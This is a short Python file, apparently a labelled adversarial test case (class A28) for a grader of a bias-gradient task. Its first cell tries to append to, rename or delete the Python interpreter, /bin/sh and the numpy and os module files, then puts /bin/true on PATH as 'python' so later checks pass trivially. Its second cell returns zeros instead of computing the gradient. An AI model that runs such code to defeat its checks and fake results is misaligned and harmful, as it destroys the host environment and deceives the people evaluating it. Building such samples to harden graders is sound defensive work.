# Tries: replaces the interpreter and tools that a later step might use
# Attacks: affine/bias-gradient
# Class: A28
# %%
import os
import shutil
import sys

for path in (sys.executable, "/usr/bin/python3", "/bin/sh", np.__file__, os.__file__):
    for change in (lambda: open(path, "a").write("#"), lambda: os.replace(path, path + "x"), lambda: os.unlink(path)):
        try:
            change()
        except OSError:
            pass
os.makedirs("bin", exist_ok=True)
shutil.copyfile("/bin/true", "bin/python")
os.chmod("bin/python", 0o755)
os.environ["PATH"] = os.path.abspath("bin") + ":" + os.environ.get("PATH", "")

# %%
def bias_gradient(dY):
    return np.zeros(dY.shape[1])
